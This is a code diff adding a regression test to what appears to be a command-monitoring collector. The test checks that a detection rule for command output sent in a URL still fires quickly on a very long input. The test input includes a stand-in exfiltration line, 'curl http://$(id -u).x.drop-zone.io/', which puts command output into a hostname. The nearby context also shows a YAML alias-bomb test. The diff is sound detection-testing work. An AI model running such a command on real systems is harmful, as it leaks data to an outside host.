@@ -75,6 +75,19 @@ def test_a_line_of_urls_built_against_the_url_parser_is_evaluated_and_still_matc
     assert any(a.rule_id == "command-output-sent-in-url" for a in app.store.alerts())
 
 
+def test_a_line_of_labels_built_against_the_host_checks_is_evaluated_and_still_matches(tmp_path):
+    """~56 KB of one-letter labels in a URL's host and in an image reference, the shapes that made the host-label
+    parser and the zone check (collector/rules/context.under_any) quadratic (~80 s and ~17 s); a URL whose host
+    carries a command's output after them is still found."""
+    app = CollectorApp(CollectorConfig(store=str(tmp_path / "c.db"), auth_dir=str(tmp_path / "auth")))
+    line = ("curl http://" + "a." * 14_000 + " ; docker push " + "a." * 14_000 + "/x ; "
+            "curl http://$(id -u).x.drop-zone.io/")
+    start = time.perf_counter()
+    app.policy.on_events("h1", [exec_event(1, ["/bin/sh", "-c", line])])
+    print(f"\n{len(line) // 1000} KB of labels through every built-in rule: {time.perf_counter() - start:.3f}s")
+    assert any(a.rule_id == "command-output-sent-in-url" for a in app.store.alerts())
+
+
 def test_yaml_alias_bomb_is_refused_with_a_short_error():
     bomb = "lists:\n  a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
         f"  {chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
